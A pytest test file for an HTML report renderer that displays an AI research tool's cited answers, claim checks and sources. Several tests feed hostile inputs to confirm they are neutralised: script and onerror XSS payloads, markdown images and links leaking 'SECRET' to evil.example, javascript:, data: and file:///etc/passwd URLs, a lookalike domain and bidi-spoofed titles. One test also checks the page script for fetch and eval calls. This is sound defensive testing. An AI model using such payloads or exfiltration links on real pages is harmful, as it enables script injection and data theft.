"""The report of an answer: what a reader finds in it, and what nothing in an answer can make of it."""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from typing import Any

import pytest

from asky.errors import UsageError
from asky.report.gathering import report_export
from asky.report.markup import Html, join, own, tag
from asky.report.page import render_report
from tests.support.reports import (
    QUOTE,
    RUN,
    STORED,
    Seen,
    answer_of,
    citation,
    claim,
    exported,
    page_of,
    reported,
)


def test_the_question_is_the_heading_and_the_title() -> None:
    page = page_of("Because of the moon [1].")
    assert page.text("h1") == page.text("title") == "Why are there tides?"
    assert page.html.startswith("<!doctype html>\n<html lang=")


def test_the_byline_says_when_and_by_which_model_it_was_answered() -> None:
    assert "14 March 2026, 09:15 UTC · answered by small" in page_of("The moon [1].").text("div", "byline")


def test_a_citation_leads_to_its_passage_and_back() -> None:
    page = page_of("The moon [1]. And again [1], and [2] is no citation.")
    cites = [attrs for attrs, text in page.all("a", "cite") if text == "[1]"]
    assert [attrs["href"] for attrs in cites[:2]] == ["#a1-c1", "#a1-c1"]
    assert [attrs.get("id") for attrs in cites[:2]] == ["a1-r1", None]
    assert "[2] is no citation" in page.answer
    assert "[2]" not in [text for _, text in page.all("a")]
    assert [attrs["href"] for attrs, _ in page.all("a", "back")] == ["#a1-r1"]
    assert page.all("article", id="a1-c1")


def test_a_citation_stands_in_tables_headings_and_emphasis() -> None:
    page = page_of("# Tides [1]\n\n**the moon [1]**\n\n| a | b |\n|---|--:|\n| x [1] | 2 |\n")
    assert [text for _, text in page.all("a", "cite")] == ["[1]"] * 3
    assert page.all("td", "right")
    assert page.text("h2", None, dir="auto") == "Tides\u202f[1]"


def test_a_citation_in_code_stays_text() -> None:
    page = page_of("`a[1]` and\n\n```\nb[1]\n```\n")
    assert page.all("a", "cite") == []
    assert page.text("pre") == "b[1]\n"


def test_the_passage_is_marked_in_its_context() -> None:
    page = page_of("The moon [1].")
    assert page.text("mark") == QUOTE
    assert page.text("blockquote", "context") == STORED.strip()
    where = page.text("details", "exact")
    assert hashlib.sha256(STORED.encode()).hexdigest() in where
    start = STORED.index(QUOTE)
    assert f"{start:,} to {start + len(QUOTE):,} of the stored text" in where
    assert "14 March 2026, 09:14 UTC" in where
    assert "the stored text had this hash" in where
    assert page.text("p", "place") == "tides.example · Daily"


def test_the_context_is_cut_between_words_and_says_so() -> None:
    stored = "word " * 200 + QUOTE + " after" * 200
    page = Seen(render_report([reported(answer_of("It [1].", citations=[citation(stored=stored)]), stored)]))
    context = page.text("blockquote", "context")
    assert context.startswith("… word word")
    assert context.endswith("after after …")
    assert len(context) < len(QUOTE) + 620


def test_a_passage_whose_text_is_lost_or_changed_is_said_to_be() -> None:
    lost = Seen(render_report([reported(answer_of("It [1]."), "another text")]))
    assert lost.text("mark") == QUOTE
    assert "⚠ not found again" in lost.text("details", "exact")
    moved = page_of("It [1].", citations=[citation() | {"start": 0, "end": len(QUOTE)}])
    assert "⚠ not found again" in moved.text("details", "exact")


def test_a_text_with_another_hash_is_said_to_be_one() -> None:
    export = exported(answer_of("It [1]."), STORED)
    export["documents"][0]["text"] += "added"
    assert "⚠ the stored text has a different hash" in Seen(render_report([report_export(export)])).text(
        "details", "exact"
    )


@pytest.mark.parametrize("verdict", ["unsupported", "contradicted", "uncited"])
def test_a_doubtful_claim_is_underlined_and_named_once(verdict: str) -> None:
    text = f"It is so [1]. **The sun** is *green* ⚠ {verdict} and on."
    page = page_of(text, claims=[claim("It is so [1].", text), claim("**The sun** is *green*", text, verdict)])
    assert [said for _, said in page.all("span", "claim")] == ["The sun", " is ", "green"]
    chips = page.all("a", "chip")
    assert [said for _, said in chips] == [f"⚠ {verdict}"]
    assert chips[0][0]["href"] == "#a1-k2"
    assert page.all("li", id="a1-k2")
    assert page.answer.count("⚠") == 1


def test_a_partly_supported_claim_is_marked_though_the_text_has_no_mark() -> None:
    text = "The moon raises three tides [1]."
    page = page_of(text, claims=[claim(text, text, "partial")])
    assert page.answer == "The moon raises three tides\u202f[1]. ⚠ partly supported"
    assert "1 statement checked: 1 partly supported" in page.text("div", "byline")


def test_a_claim_that_is_a_row_of_a_table_is_marked_cell_by_cell() -> None:
    text = "| body | share |\n|---|---|\n| moon | most [1] |\n"
    page = page_of(text, claims=[claim("moon | most [1]", text, "partial")])
    assert [said for _, said in page.all("span", "claim")] == ["moon", "most"]
    assert page.text("table").endswith("most\u202f[1] ⚠ partly supported")


def test_marks_stay_where_the_claims_cannot_be_placed() -> None:
    text = "```\ncode ⚠ unsupported\n```\n\nThe sun is green ⚠ unsupported."
    wrong = [{**claim("The sun is green", text, "unsupported"), "start": 0, "end": 3}]
    for claims in ([], wrong, [wrong[0] | {"end": 10_000}]):
        page = page_of(text, claims=claims)
        assert [said for _, said in page.all("a", "chip")] == ["⚠ unsupported"]
        assert "code ⚠ unsupported" in page.text("pre")
        assert page.all("span", "claim") == []


def test_what_was_missing_is_in_the_list_of_checks() -> None:
    text = "It is 5 m [1]."
    checks = {"missing_numbers": ["5 m"], "missing_quotes": [], "contradicted_by": "number"}
    page = page_of(text, claims=[claim(text, text, "contradicted") | {"checks": checks}])
    said = page.text("li", None, id="a1-k1")
    assert said == "⚠ contradicted It is 5 m. [1] (not in the passages: 5 m; a passage has a different number)"


def test_formulas_keep_every_letter_and_prices_are_none() -> None:
    page = page_of(r"With \(a_1 * b_2 * c\), \[x^2\], $e^{i*\pi*x}$ and $$m*n*o$$; $5 and $10.")
    priced = page_of("From $3 [1] to 4$ [1].")
    assert [text for _, text in page.all("span", "math")] == [
        r"\(a_1 * b_2 * c\)", r"\[x^2\]", r"$e^{i*\pi*x}$", "$$m*n*o$$",
    ]  # fmt: skip
    assert page.all("em") == []
    assert len(priced.all("a", "cite")) == 2


def test_html_in_an_answer_is_shown_as_it_stands() -> None:
    page = page_of("<b>bold</b> <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<!-- no -->")
    assert "<b>bold</b> <script>alert(1)</script>" in page.answer
    assert "<img src=x onerror=alert(1)>" in page.answer
    assert "<!-- no -->" in page.answer


def test_an_image_is_its_description() -> None:
    page = page_of("![a map](https://evil.example/?q=SECRET)")
    assert page.answer == "[image: a map]"
    assert "evil.example" not in page.html


def test_a_link_is_followed_only_to_what_the_sources_offer() -> None:
    stored = STORED + "See https://tables.example/2026 or write to log@harbour.example."
    quote = "https://tables.example/2026 or write to log@harbour.example."
    text = (
        "[source](https://tides.example/daily) [written](https://tables.example/2026) <log@harbour.example>"
        " [this](https://evil.example/?q=SECRET) [mail](mailto:x@evil.example) [host](https://user@tides.example/daily)"
    )
    cited = citation(2, quote=quote, stored=stored)
    page = Seen(render_report([reported(answer_of(text, citations=[citation(), cited]), STORED, stored)]))
    inside = page.html[page.html.index('class="answer"') : page.html.index('class="sources"')]
    assert re.findall(r'<a href="([^"]*)"', inside) == [
        "https://tides.example/daily",
        "https://tables.example/2026",
        "mailto:log@harbour.example",
    ]
    assert "source (tides.example) written (tables.example) log@harbour.example" in page.answer
    assert "this (https://evil.example/?q=SECRET) mail (mailto:x@evil.example)" in page.answer


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "vbscript:x", "x"]
)
def test_no_other_scheme_becomes_a_link(url: str) -> None:
    cited = citation(url=url)
    sources = [{"source_id": "s2", "url": url, "title": "T", "score": 0.1, "used": False}]
    page = page_of(f"[a]({url}) [b](<{url}>) <{url}> [1]", citations=[cited], sources=sources)
    hrefs = [str(attrs["href"]) for attrs, _ in page.all("a")]
    assert all(href.startswith("#") for href in hrefs), hrefs


def test_a_link_opens_nothing_of_the_page_it_left() -> None:
    page = page_of("[source](https://tides.example/daily) [1]")
    outward = [attrs for attrs, _ in page.all("a") if not str(attrs["href"]).startswith("#")]
    assert len(outward) == 3  # in the text, the title of the passage, and its address
    for attrs in outward:
        assert (attrs["rel"], attrs["referrerpolicy"]) == ("noopener noreferrer", "no-referrer")


def test_a_host_that_passes_for_another_is_shown_as_it_is_asked_for() -> None:
    page = page_of("It [1].", citations=[citation(url="https://аррӏе.com/")])
    assert page.text("p", "place").startswith("xn--80ak6aa92e.com")


def test_a_file_is_named_and_not_linked() -> None:
    page = page_of(
        "It [1].", citations=[citation(url=None, path="/home/you/sea/tides.md", kind="file", page=6, page_label="iv")]
    )
    assert page.text("p", "place") == "tides.md · Daily · p. iv (PDF 6)"
    assert page.html.count("/home/you/sea/tides.md") == 1
    assert "/home/you/sea/tides.md" in page.text("details", "exact")
    assert "file:" not in page.html


def test_titles_hide_nothing() -> None:
    title = "\x1b[31mred\x1b[0m \u202egnp.exe\u202c \U000e0041</script><b>"
    page = page_of("It [1].", citations=[citation(title=title)], question=title, warnings=[title])
    shown = "red gnp.exe </script><b>"
    assert [page.text("h1"), page.text("h3"), page.text("ul", "notes")] == [shown] * 3
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]", page.html)


def test_what_cannot_be_encoded_is_replaced() -> None:
    page = page_of("a \ud800 b \x00 [1].", question="\udfff?")
    assert page.html.encode()
    assert "a \ufffd b \ufffd" in page.answer


def test_the_policy_allows_this_style_and_this_script_and_nothing_else() -> None:
    page = page_of("It [1].")
    (policy,) = (attrs["content"] for attrs, _ in page.all("meta", None, **{"http-equiv": "Content-Security-Policy"}))
    assert policy is not None
    assert policy.startswith("default-src 'none'; ")
    assert "unsafe" not in policy
    for name in ("style", "script"):
        digest = base64.b64encode(hashlib.sha256(page.text(name).encode()).digest()).decode()
        assert f"{name}-src 'sha256-{digest}'" in policy
    assert not any("style" in attrs or any(key.startswith("on") for key in attrs) for _, attrs in page.elements)


def test_the_style_and_the_script_ask_for_nothing() -> None:
    page = page_of("It [1].")
    assert not re.search(r"url\(|@import|@font-face|//[a-z]", page.text("style"))
    assert not re.search(r"fetch|XMLHttp|import|innerHTML|eval|Function|document\.write|https?:", page.text("script"))


def test_sources_that_were_not_used_or_rejected_are_folded_away() -> None:
    page = page_of(
        "It [1].",
        sources=[
            {"source_id": "s1", "url": "https://tides.example/daily", "title": "Tides", "score": 0.9, "used": True},
            {"source_id": "s2", "url": "https://other.example/", "title": "Other", "score": 0.1, "used": False},
            {"source_id": "s3", "url": None, "title": "notes.md", "score": 0.1, "used": False},
        ],
        rejected=[{"url": "https://slow.example/", "reason": "timed out"}],
    )
    folded = [text for _, text in page.all("details", "more")]
    assert folded == [
        "2 sources found, not citedOther other.examplenotes.md",
        "1 source rejectedhttps://slow.example/: timed out",
    ]


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"stopped_by": "budget"}, "reached a limit of its budget"),
        ({"stopped_by": "max_turns"}, "limit of model calls"),
        ({"stopped_by": "cancelled"}, "was cancelled"),
        ({"stopped_by": "length"}, "reached the limit of the model"),
        ({"stopped_by": "cut"}, "was cut off"),
        ({"stopped_by": "no_evidence", "citations": []}, "hold too little"),
        ({"citations": []}, "cites no source"),
        ({"warnings": ["the index was rebuilt"]}, "the index was rebuilt"),
    ],
)
def test_what_a_reader_has_to_know_stands_before_the_answer(changed: dict[str, Any], said: str) -> None:
    page = page_of("It.", **changed)
    notes = page.all("ul", "notes")
    assert len(notes) == 1
    assert said in notes[0][1]
    assert page.html.index(said) < page.html.index('class="answer"')


def test_an_answer_without_faults_has_no_notes() -> None:
    assert page_of("It [1].").all("ul", "notes") == []


def test_what_it_took_is_told() -> None:
    usage = answer_of("")["usage"] | {"cost_usd": 0.0123, "fetches": 6, "cache_hits": 2, "seconds": 21.44}
    said = page_of("It [1].", usage=usage).text("p", "usage")
    assert said == (
        f"2 model calls · 120 tokens · 0.0123 USD · 1 search · 6 pages fetched · 2 from the cache · 21.4 s · run {RUN}"
    )


def test_several_answers_share_a_page_and_no_ids() -> None:
    first = reported(answer_of("One [1]."))
    second = replace(first, answer=answer_of("Two [1].", question="And the sun?"))
    page = Seen(render_report([first, second], title="Session tides"))
    assert page.text("h1") == "Session tides"
    assert [text for _, text in page.all("h2", "question")] == ["Why are there tides?", "And the sun?"]
    assert [attrs["href"] for attrs, _ in page.all("a") if attrs["href"] in ("#a1", "#a2")] == ["#a1", "#a2"]
    ids = [attrs["id"] for _, attrs in page.elements if "id" in attrs]
    assert len(ids) == len(set(ids))
    inner = [str(attrs["href"])[1:] for attrs, _ in page.all("a") if str(attrs["href"]).startswith("#")]
    assert set(inner) <= set(ids)


def test_each_paragraph_finds_its_own_direction() -> None:
    page = page_of("القمر يرفع المد مرتين في اليوم [1].\n\n- נקודה\n")
    assert page.all("p", None, dir="auto")
    assert page.all("li", None, dir="auto")


def test_what_is_no_prose_is_shown_without_being_parsed() -> None:
    assert page_of("[" * 5000 + "*a*").answer == "[" * 5000 + "*a*"
    assert page_of("*a* " * 6000).all("em") == []


def test_an_export_without_an_answer_has_no_report() -> None:
    with pytest.raises(UsageError, match="has no answer"):
        report_export(exported(answer_of("")) | {"answer": None})


def test_html_is_made_by_its_functions_alone() -> None:
    assert tag("p", "<", Html("&lt;"), title='"') == '<p title="&quot;">&lt;&lt;</p>'
    assert join([tag("b") + "<i>", tag("br")]) == "&lt;b&gt;&lt;/b&gt;&lt;i&gt;<br>"
    assert tag("p", hidden=True, id=None, lang="") == '<p hidden lang=""></p>'
    with pytest.raises(ValueError, match="no text"):
        own("a</script>")


def test_the_words_that_the_answer_quotes_stand_out_in_their_passage() -> None:
    quote = "The moon raises two high tides a day. The sun helps a little."
    text = "The sun helps a little [1]."
    start = quote.index("The sun")
    quoted = {**claim(text, text), "checks": {"quotation": {"n": 1, "start": start, "end": len(quote)}}}
    page = page_of(text, citations=[citation(quote=quote)], claims=[quoted])
    assert page.text("strong") == "The sun helps a little."
    assert page.text("mark") == quote
    assert page.html.count('class="chip quoted"') == 2  # at the passage and among the checks
    assert "1 statement checked: 1 quoted" in page.text("div", "byline")


def test_a_passage_without_a_quotation_is_marked_whole() -> None:
    page = page_of("Because of the moon [1].", claims=[claim("Because of the moon [1].", "Because of the moon [1].")])
    assert not page.all("strong")
    assert page.text("mark") == QUOTE
    assert "1 statement checked: 1 supported" in page.text("div", "byline")
